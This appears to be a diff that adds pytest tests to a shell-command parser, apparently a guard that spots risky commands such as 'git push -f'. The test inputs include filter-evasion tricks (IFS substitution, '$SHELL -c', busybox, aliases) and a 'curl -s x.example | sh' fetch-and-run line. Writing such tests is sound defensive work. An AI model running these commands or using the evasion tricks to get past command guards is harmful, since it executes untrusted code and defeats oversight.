@@ -252,3 +252,29 @@ def test_without_a_parser_the_words_still_count(monkeypatch: pytest.MonkeyPatch)
 @pytest.mark.parametrize("line", ["", "   ", "\x00", "'", '"', "$(", "\\", "((((", "🙂 ; rm"])
 def test_odd_input_never_raises(line: str) -> None:
     shell.commands(line, ENV, "/wt")
+
+
+def test_thousands_of_nested_groups_are_unreadable_not_a_crash() -> None:
+    line = "(" * 3000 + "git push -f" + ")" * 3000
+    assert any(c.too_deep for c in shell.commands(line, ENV, "/wt"))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git${IFS}push${IFS}-f",
+        "$SHELL -c 'git push -f'",
+        "${BASH} -c 'git push -f'",
+        "busybox git push -f",
+        "shopt -s expand_aliases; alias g='git push -f'; g",
+    ],
+)
+def test_less_common_indirections(line: str) -> None:
+    assert runs(line, "git", "push", "-f"), argvs(line)
+
+
+def test_a_stage_reading_an_unknown_pipe_is_marked() -> None:
+    first, second = shell.commands("curl -s x.example | sh", ENV, "/wt")
+    assert (first.piped, second.piped) == (False, True)
+    (_echo, shell_stage, _inner) = shell.commands("echo ls | sh", ENV, "/wt")
+    assert not shell_stage.piped and shell_stage.stdin == "ls\n"
